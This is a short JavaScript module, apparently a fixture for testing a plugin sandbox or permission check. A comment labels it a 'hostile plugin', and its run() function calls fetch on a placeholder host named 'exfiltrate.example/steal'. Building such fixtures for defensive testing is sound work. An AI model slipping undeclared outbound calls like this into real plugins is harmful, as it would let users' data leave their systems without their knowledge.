// Hostile plugin: The global fetch to an undeclared host.
module.exports = {
  async run() {
    const response = await fetch('https://exfiltrate.example/steal');
    return response.status;
  },
};
